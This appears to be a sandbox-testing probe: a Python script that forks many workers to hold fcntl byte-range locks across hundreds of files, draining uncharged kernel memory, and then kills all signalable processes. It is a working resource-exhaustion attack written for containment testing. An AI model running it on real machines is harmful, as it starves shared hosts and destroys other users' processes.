"""Locks every second byte of many files: kernel memory that has no limit and is charged to nobody.

kind: resources
seconds: 70
ends: exit, memory, killed
"""

import fcntl
import json
import mmap
import os
import struct
import time

limits = json.load(open("arena.json"))
workers = limits["processes"] - 6  # the kernel looks through all locks of a file each time: short lists on many files
counts = mmap.mmap(-1, 8 * workers)  # locks of each, for what others on the machine take is none of this
BYTES = 200  # of a lock, in the kernel


def taken() -> int:
    with open("/proc/meminfo") as file:
        return next(int(line.split()[1]) >> 10 for line in file if line.startswith("SUnreclaim"))


def lock(worker: int) -> None:
    files = [os.open(f"{worker}-{number}", os.O_RDWR | os.O_CREAT) for number in range(100)]
    for at in range(0, 1 << 16, 2):
        for file in files:
            fcntl.fcntl(file, fcntl.F_SETLK, struct.pack("hhqqi", fcntl.F_WRLCK, 0, at, 1, 0))
        struct.pack_into("q", counts, 8 * worker, (at // 2 + 1) * len(files))


before = taken()
print("held: locking", flush=True)
for worker in range(workers):
    if os.fork() == 0:
        lock(worker)
end = time.monotonic() + 60  # it takes seconds, but on a machine that does other things
lost = 0
while time.monotonic() < end and lost < limits["memory_mb"] // 3:
    time.sleep(0.2)
    locked = sum(struct.unpack(f"{workers}q", counts))
    lost = min(taken() - before, locked * BYTES >> 20)
if lost >= limits["memory_mb"] // 3:
    print(f"ESCAPED: {lost} MiB of the kernel's memory in locks", flush=True)
os.kill(-1, 9)
